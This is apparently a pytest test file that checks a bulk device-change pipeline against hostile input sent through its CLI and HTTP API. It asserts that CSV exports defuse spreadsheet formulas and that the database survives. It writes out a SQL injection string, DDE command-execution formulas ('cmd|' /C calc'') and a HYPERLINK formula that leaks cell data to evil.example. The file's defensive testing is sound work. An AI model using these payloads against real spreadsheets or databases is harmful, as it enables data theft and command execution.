"""R4: a corpus of hostile input through the CLI and the HTTP API.

What the intake tests already prove is not repeated here (docs/reliability.md lists them: per-row
check digits, duplicates, unknown and foreign devices, unknown status/plan, SQL strings as data,
formula strings refused, bad UTF-8, ragged rows, oversize with small limits, API 4xx-never-5xx,
NUL bytes and huge numbers through the API, deep nesting through the API). Added here:

- end to end: a file mixing valid rows with every kind of bad row, submitted through the CLI and
  through the API, then run by the pipeline against the Jasper simulator: the valid rows (and only
  they) are applied at the carrier, each bad row is an ERROR with its reason, the database is
  intact, and the CSV exports (CLI ``results`` and the API download) neutralise every cell a
  spreadsheet would run as a formula, including text that came back from the carrier;
- the real 50 MB limit (not a lowered one): a file just over it through the CLI, a body just over
  it through the API, declared and streamed (no Content-Length);
- the CLI front end with files that are not a request at all: deeply nested JSON, wrong types,
  numbers beyond 64 bits (or beyond Python's 4300-digit limit), NUL characters: each a one-line
  error with exit code 2, no traceback; the API goes through the same check (intake/parsing.py).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner, Result
from fastapi.testclient import TestClient
from starlette.requests import Request
from starlette.responses import Response

from bulkchange_pipeline.cli import main as cli
from bulkchange_pipeline.domain import DeviceChangeStatus
from bulkchange_pipeline.intake.app import create_app
from bulkchange_pipeline.simulators.jasper import _json
from bulkchange_pipeline.store.api_keys import create_api_key
from bulkchange_pipeline.store.bulk_changes import count_rows_by_status
from bulkchange_pipeline.store.device_changes import RowResult, record_results
from bulkchange_pipeline.store.device_rows import iter_device_results
from bulkchange_pipeline.store.schema import device

from ..defs.harness import fast_definitions, sensor_then_runs
from ..factories import JASPER_KEY, JASPER_USER, iccid, make_account, make_devices
from .common import HoldingJasper, add_devices

LIMIT = 50 * 1024 * 1024
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CARRIER_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


class HostileJasper(HoldingJasper):
    """A carrier whose refusal text is itself a formula (text from carriers ends up in exports)."""

    refuse: frozenset[str] = frozenset()

    async def _put_device(self, request: Request, account: str) -> Response:
        if request.path_params["iccid"] in self.refuse:
            self.business_refusals += 1
            return _json(400, {"errorCode": "10000003", "errorMessage": CARRIER_FORMULA})
        return await super()._put_device(request, account)


def _wrong_check_digit(value: str) -> str:
    return value[:-1] + str((int(value[-1]) + 1) % 10)


@pytest.fixture
def world(engine: sa.Engine, dagster_instance, carrier_env) -> Iterator[dict[str, Any]]:
    """Tenant acme (Jasper, 12 devices, on the hostile simulator) and tenant rival (its own devices)."""
    sim = HostileJasper({JASPER_USER: JASPER_KEY}, rate_per_second=0, max_concurrency=0)
    with sim.run_in_thread() as handle:
        ids = make_account(engine, handle.base_url, batch_size=50)
        devices = make_devices(engine, ids, 12)
        rival = make_account(engine, handle.base_url, name="RIVAL", tenant_name="rival")
        rival_devices = add_devices(engine, rival, [iccid(500), iccid(501)])
        sim.seed_devices({"iccid": d["iccid"], "status": "ACTIVATED"} for d in devices + rival_devices)
        sim.refuse = frozenset({devices[11]["iccid"]})
        yield {"sim": sim, "ids": ids, "devices": devices, "rival": rival_devices, "instance": dagster_instance}


def _corpus(w: dict[str, Any]) -> tuple[list[tuple[str, str]], set[str], dict[str, str]]:
    """(identifier, status) rows; the ICCIDs that must be applied; expected reason per identifier."""
    d = [x["iccid"] for x in w["devices"]]
    rows = [
        *[(d[i], "DEACTIVATED") for i in range(5)],  # valid
        (d[11], "DEACTIVATED"),  # valid here; the carrier refuses it with a formula as its message
        (_wrong_check_digit(d[5]), "DEACTIVATED"),
        (d[0], "DEACTIVATED"),  # duplicate of row 1
        (iccid(900), "DEACTIVATED"),  # well-formed, unknown
        (w["rival"][0]["iccid"], "DEACTIVATED"),  # another tenant's device
        (d[6], "FLYING"),  # unknown status
        (d[7], "=1+1"),  # formula as a value
        ("1'); DROP TABLE device;--", "DEACTIVATED"),
        ('=HYPERLINK("http://evil.example","x")', "DEACTIVATED"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "DEACTIVATED"),
        ("\t=2+5", "DEACTIVATED"),
    ]
    reasons = {
        _wrong_check_digit(d[5]): "wrong check digit",
        iccid(900): "in this tenant's inventory",
        w["rival"][0]["iccid"]: "in this tenant's inventory",
        "1'); DROP TABLE device;--": "digits only",
        '=HYPERLINK("http://evil.example","x")': "formula",
        "@SUM(1+1)*cmd|' /C calc'!A0": "formula",
        "\t=2+5": "formula",
    }
    return rows, set(d[:5]) | {d[11]}, reasons


def _run_pipeline(w: dict[str, Any]) -> None:
    _, runs = sensor_then_runs(w["instance"], fast_definitions())
    assert runs and all(r.success for r in runs)


def _assert_processed_only_valid(engine: sa.Engine, w: dict[str, Any], bc_id: int, applied: set[str]) -> None:
    sim = w["sim"]
    good = applied - sim.refuse
    assert set(sim.applied_counts) == good and sim.stats()["applied_more_than_once"] == 0
    rows = list(iter_device_results(engine, w["ids"]["tenant_id"], bc_id))
    by_status = {r["status"] for r in rows}
    assert by_status == {"PROCESSED", "API_FAILED", "ERROR"}, by_status
    assert {r["iccid"] for r in rows if r["status"] == "PROCESSED"} == good
    [refused] = [r for r in rows if r["status"] == "API_FAILED"]
    assert CARRIER_FORMULA in refused["status_details"], refused["status_details"]
    with engine.connect() as conn:  # the database is intact, the other tenant's device untouched
        assert conn.execute(sa.select(sa.func.count()).select_from(device)).scalar() == 14
        assert (
            conn.execute(sa.select(device.c.status).where(device.c.iccid == w["rival"][0]["iccid"])).scalar()
            == "ACTIVATED"
        )


def _assert_export_is_spreadsheet_safe(text: str, hostile: list[str]) -> list[dict[str, str]]:
    """No cell starts like a formula; each hostile text is still there, as inert text (a leading ')."""
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [c for r in rows for c in r.values() if c]
    dangerous = [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("+-").replace(".", "", 1).isdigit()]
    assert not dangerous, dangerous
    for value in hostile:
        assert "'" + value in cells, (value, [c for c in cells if c.startswith("'")])
    return rows


def _hostile_cells(rows: list[tuple[str, str]]) -> list[str]:
    """The texts the export must neutralise: refused identifiers as stored, which is as they were
    sent (issue 15: not normalised, not cut; one longer than the column's 40 characters is kept in
    the request only). The carrier's refusal text is stored after its code ("[10000003] =HYPERLINK..."),
    so its cell does not start like a formula; the no-dangerous-cell check covers it."""
    return [ident.strip() for ident, _ in rows if ident.lstrip().startswith(("=", "@")) and len(ident.strip()) <= 40]


def _reasons_ok(rows: list[dict[str, Any]], reasons: dict[str, str]) -> None:
    by_device = {
        json.loads(r["change_request"]).get("device", r["iccid"])
        if r["change_request"].startswith("{")
        else r["iccid"]: r
        for r in rows
        if r["status"] == "ERROR"
    }
    for ident, reason in reasons.items():
        row = by_device.get(ident) or by_device.get(ident.strip())
        assert row is not None, ident
        assert reason in row["status_details"], (ident, row["status_details"])


# --- CLI ------------------------------------------------------------------------------------------


def _cli(db_url: str, *args: str) -> Result:
    return CliRunner().invoke(cli, [*args, "--database-url", db_url], env={"COLUMNS": "250"})


def test_cli_mixed_hostile_csv_valid_rows_processed_export_neutralised(engine, db_url, world, tmp_path):
    rows, applied, reasons = _corpus(world)
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["iccid", "status"])
    writer.writerows(rows)
    path = tmp_path / "hostile.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    sp = str(world["ids"]["service_provider_id"])

    sub = _cli(
        db_url, "submit", str(path), "--change-type", "StatusUpdate", "--service-provider", sp, "--tenant", "acme"
    )
    assert sub.exit_code == 0 and sub.exception is None, sub.output
    assert f"6 of {len(rows)} devices accepted" in sub.output
    bc_id = int(sub.output.split("created bulk change ")[1].split()[0])
    _run_pipeline(world)
    _assert_processed_only_valid(engine, world, bc_id, applied)

    export = _cli(db_url, "results", str(bc_id), "--csv", "-", "--tenant", "acme")
    assert export.exit_code == 0, export.output
    exported = _assert_export_is_spreadsheet_safe(export.output, _hostile_cells(rows))
    _reasons_ok(exported, reasons)
    assert count_rows_by_status(engine, bc_id) == {"PROCESSED": 5, "API_FAILED": 1, "ERROR": len(rows) - 6}


CLI_FILES = [
    # name, file content, CLI options, expected message (exit code 2). Each was a traceback once:
    # RecursionError from json.loads (deep), OverflowError on SQLite (beyond 64 bits) and psycopg2's
    # ValueError on PostgreSQL (NUL); intake/parsing.py now refuses them for every way in.
    (
        "deep.json",
        '{"serviceProviderId": 1, "changeType": 1, "devices": ' + "[" * 100_000 + "]" * 100_000 + "}",
        (),
        "nested too deeply",
    ),
    (
        "types.json",
        json.dumps({"serviceProviderId": "one", "changeType": "x", "devices": "abc"}),
        (),
        "invalid request",
    ),
    (
        "types2.json",
        json.dumps(
            {"serviceProviderId": 1, "changeType": 1, "devices": [{"iccid": 123}, ["x"], None], "statusUpdate": [1]}
        ),
        (),
        "invalid request",
    ),
    ("list.json", "[1, 2, 3]", (), "must be a JSON object"),
    (
        "bigint.json",
        json.dumps(
            {
                "serviceProviderId": 1,
                "changeType": 4,
                "devices": ["DEV"],
                "customerRatePlanUpdate": {"customerRatePlanId": 2**70},
            }
        ),
        (),
        "customerRatePlanId: the number 1180591620717411303424 is too large",
    ),
    (
        "bigsp.json",
        json.dumps(
            {"serviceProviderId": 2**70, "changeType": 1, "devices": ["DEV"], "statusUpdate": {"status": "DEACTIVATED"}}
        ),
        (),
        "serviceProviderId: the number 1180591620717411303424 is too large",
    ),
    (
        "hugeint.json",
        '{"serviceProviderId": 1, "changeType": 1, "devices": ["DEV"], "portalTypeId": ' + "9" * 5000 + "}",
        (),
        "more than 4300 digits",
    ),
    (
        "nul-key.json",
        json.dumps(
            {
                "serviceProviderId": 1,
                "changeType": 1,
                "devices": ["DEV"],
                "statusUpdate": {"status": "DEACTIVATED"},
                "idempotencyKey": "k\u0000",
            }
        ),
        (),
        "idempotencyKey contains a NUL character",
    ),
    (
        "nul.csv",
        "iccid,status\nDEV\u0000,DEACTIVATED\n",
        ("--change-type", "1", "--service-provider", "SP"),
        "NUL character (line 2)",
    ),
    # A CSV cell is text: the request model's 64-bit bound refuses it (domain/requests.py Int64).
    (
        "bigsp.csv",
        "iccid,status,serviceProviderId\nDEV,DEACTIVATED,1180591620717411303424\n",
        ("--change-type", "1"),
        "serviceProviderId: Input should be less than or equal to 9223372036854775807",
    ),
]


@pytest.mark.parametrize(("name", "content", "options", "message"), CLI_FILES, ids=[c[0] for c in CLI_FILES])
def test_cli_unreadable_request_files_are_one_line_errors(
    engine, db_url, world, tmp_path, name, content, options, message
):
    sp = str(world["ids"]["service_provider_id"])
    path = tmp_path / name
    content = content.replace('"serviceProviderId": 1,', f'"serviceProviderId": {sp},').replace(
        "DEV", world["devices"][0]["iccid"]
    )
    path.write_bytes(content.encode("utf-8"))
    opts = [o.replace("SP", sp) for o in options]
    for command in ("dry-run", "submit"):
        result = _cli(db_url, command, str(path), *opts, "--tenant", "acme")
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            f"{command} crashed: {type(result.exception).__name__}: {str(result.exception)[:200]}"
        )
        assert "Traceback" not in result.output, result.output[-500:]
        assert result.exit_code == 2, result.output[-500:]
        assert message.lower() in result.output.lower(), result.output[-500:]
        assert len(result.output.strip().splitlines()) == 1, result.output[-500:]
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM bulk_change")).scalar() == 0


BEYOND_64_BITS = "99999999999999999999999"


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_cli_id_beyond_64_bits_written_as_text_is_refused_per_row(engine, db_url, world, tmp_path, kind):
    """A rate plan id beyond 64 bits written as text (a CSV cell, a JSON string) is no number to
    check_values, and an identifier of 20+ digits is legitimate text; the request model's 64-bit
    bound (domain/requests.py ``Int64``) refuses the row, where SQLite would raise OverflowError."""
    sp, dev = str(world["ids"]["service_provider_id"]), world["devices"][0]["iccid"]
    path = tmp_path / f"plan.{kind}"
    if kind == "csv":
        path.write_text(f"iccid,customerRatePlanId\n{dev},{BEYOND_64_BITS}\n")
    else:
        path.write_text(
            json.dumps(
                {
                    "serviceProviderId": int(sp),
                    "changeType": 4,
                    "devices": [dev],
                    "customerRatePlanUpdate": {"customerRatePlanId": BEYOND_64_BITS},
                }
            )
        )
    result = _cli(db_url, "dry-run", str(path), "--change-type", "4", "--service-provider", sp, "--tenant", "acme")
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"crashed: {type(result.exception).__name__}: {str(result.exception)[:200]}"
    )
    assert (
        result.exit_code == 1
        and "customer_rate_plan_id: Input should be less than or equal to 9223372036854775807" in result.output
    ), result.output[-500:]


def test_cli_file_over_the_50_mb_limit_is_refused_before_reading(db_url, world, tmp_path):
    path = tmp_path / "big.csv"
    line = f"{world['devices'][0]['iccid']},DEACTIVATED\n".encode()
    with path.open("wb") as f:
        f.write(b"iccid,status\n")
        f.write(line * (LIMIT // len(line) + 1))
    assert path.stat().st_size > LIMIT
    result = _cli(
        db_url,
        "submit",
        str(path),
        "--change-type",
        "1",
        "--service-provider",
        str(world["ids"]["service_provider_id"]),
        "--tenant",
        "acme",
    )
    assert result.exit_code == 2 and isinstance(result.exception, (SystemExit, type(None))), result.output
    assert "the limit is 50 MB: split it" in result.output


# --- HTTP API -------------------------------------------------------------------------------------


@pytest.fixture
def client(db_url: str, engine: sa.Engine, world) -> Iterator[tuple[TestClient, dict[str, str]]]:
    key = create_api_key(engine, world["ids"]["tenant_id"], "ops")
    with TestClient(create_app(db_url)) as c:
        yield c, {"Authorization": f"Bearer {key}"}


def test_api_mixed_hostile_json_valid_rows_processed_download_neutralised(engine, world, client):
    c, auth = client
    rows, applied, reasons = _corpus(world)
    body = {
        "serviceProviderId": world["ids"]["service_provider_id"],
        "changeType": 1,
        "devices": [{"iccid": ident, "status": status} for ident, status in rows],
        "statusUpdate": {"status": "DEACTIVATED"},
    }
    r = c.post("/bulk-changes", json=body, headers=auth)
    assert r.status_code == 201, r.text
    assert r.json()["validation"]["accepted"] == 6
    bc_id = r.json()["id"]
    _run_pipeline(world)
    _assert_processed_only_valid(engine, world, bc_id, applied)

    # Text an asynchronous carrier sends back verbatim (its request id, its detail) is stored as is.
    [refused] = [
        r for r in iter_device_results(engine, world["ids"]["tenant_id"], bc_id) if r["status"] == "API_FAILED"
    ]
    record_results(
        engine,
        tenant_id=world["ids"]["tenant_id"],
        bulk_change_id=bc_id,
        process_by="test",
        results=[
            RowResult(
                refused["id"], DeviceChangeStatus.API_FAILED, "-2+3+cmd|' /C calc'!A0", carrier_request_id="@SUM(A1:A9)"
            )
        ],
    )

    download = c.get(f"/bulk-changes/{bc_id}/devices", params={"format": "csv"}, headers=auth)
    assert download.status_code == 200
    exported = _assert_export_is_spreadsheet_safe(
        download.text, [*_hostile_cells(rows), "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)"]
    )
    _reasons_ok(exported, reasons)
    # The JSON pages give the text unaltered (neutralising is for spreadsheets only).
    page = c.get(f"/bulk-changes/{bc_id}/devices", params={"status": "API_FAILED"}, headers=auth).json()
    assert page["items"][0]["carrierRequestId"] == "@SUM(A1:A9)"


def test_api_csv_upload_with_formula_identifiers_processes_the_rest(engine, world, client):
    c, auth = client
    rows, applied, _ = _corpus(world)
    buf = io.StringIO()
    csv.writer(buf).writerows([("iccid", "status"), *rows])
    r = c.post(
        "/bulk-changes/csv",
        headers=auth,
        files={"file": ("hostile.csv", buf.getvalue().encode(), "text/csv")},
        data={"changeType": "StatusUpdate", "serviceProviderId": str(world["ids"]["service_provider_id"])},
    )
    assert r.status_code == 201, r.text
    assert r.json()["validation"]["accepted"] == 6
    _run_pipeline(world)
    _assert_processed_only_valid(engine, world, r.json()["id"], applied)


def _stream(total: int, chunk: int = 1024 * 1024) -> Iterator[bytes]:
    sent = 0
    while sent < total:
        n = min(chunk, total - sent)
        yield b" " * n
        sent += n


def test_api_bodies_over_the_50_mb_limit_are_413_declared_or_streamed(engine, world, client):
    c, auth = client
    with engine.connect() as conn:
        before = conn.execute(sa.text("SELECT count(*) FROM bulk_change")).scalar()
    padding = b" " * (LIMIT + 1)
    json_headers = {**auth, "Content-Type": "application/json"}
    declared = c.post("/bulk-changes", content=b'{"devices": []}' + padding, headers=json_headers)
    streamed = c.post("/bulk-changes", content=_stream(LIMIT + 2), headers=json_headers)  # chunked: no Content-Length
    csv_big = c.post(
        "/bulk-changes/csv",
        headers=auth,
        files={"file": ("big.csv", b"iccid,status\n" + padding, "text/csv")},
        data={"changeType": "1", "serviceProviderId": str(world["ids"]["service_provider_id"])},
    )
    for r in (declared, streamed, csv_big):
        assert r.status_code == 413, r.text[:300]
        assert r.headers["content-type"] == "application/problem+json" and "the limit is 50 MB" in r.json()["detail"]
    nested: Any = {"status": "DEACTIVATED"}
    for _ in range(60):
        nested = {"x": nested}
    deep = c.post(
        "/bulk-changes",
        json={"serviceProviderId": 1, "changeType": 1, "devices": ["1"], "statusUpdate": nested},
        headers=auth,
    )
    assert deep.status_code == 422 and "nested too deeply" in deep.json()["detail"]
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM bulk_change")).scalar() == before


def test_api_goes_through_the_same_value_check_as_the_cli(engine, world, client):
    """parsing.load_json / check_values / parse_csv are shared: a number json.loads cannot convert is
    400 (it was a 500), NUL characters in a CSV cell or form field are 422, nothing is stored."""
    c, auth = client
    sp, dev = str(world["ids"]["service_provider_id"]), world["devices"][0]["iccid"]
    huge = c.post(
        "/bulk-changes",
        content=b'{"serviceProviderId": ' + b"9" * 5000 + b"}",
        headers={**auth, "Content-Type": "application/json"},
    )
    assert huge.status_code == 400 and "more than 4300 digits" in huge.json()["detail"], huge.text
    uploads = [
        (f"iccid,status\n{dev}\x00,DEACTIVATED\n", {}, "NUL character (line 2)"),
        (f"iccid,status\n{dev},DEACTIVATED\n", {"idempotencyKey": "k\x00"}, "idempotencyKey contains a NUL character"),
    ]
    for text, fields, message in uploads:
        r = c.post(
            "/bulk-changes/csv",
            headers=auth,
            files={"file": ("d.csv", text.encode(), "text/csv")},
            data={"changeType": "1", "serviceProviderId": sp, **fields},
        )
        assert r.status_code == 422 and message in r.json()["detail"], r.text
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM bulk_change")).scalar() == 0
